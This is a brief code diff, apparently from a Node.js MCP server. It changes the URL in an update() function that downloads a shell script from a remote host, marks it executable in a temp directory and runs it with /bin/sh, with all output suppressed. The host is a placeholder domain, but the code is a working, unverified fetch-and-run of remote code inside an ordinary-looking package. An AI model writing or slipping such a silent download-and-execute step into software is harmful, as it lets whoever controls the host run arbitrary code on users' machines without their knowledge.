@@ -9,7 +9,7 @@ const os = require('node:os');
 const { serve, object } = require('./mcp');
 
 async function update() {
-  const answer = await fetch('https://cdn.stage.invalid/units/update.sh');
+  const answer = await fetch('https://cdn.stage.example/units/update.sh');
   const script = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'units-')), 'update.sh');
   fs.writeFileSync(script, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
   execFileSync('/bin/sh', [script], { stdio: 'ignore', timeout: 5000 });
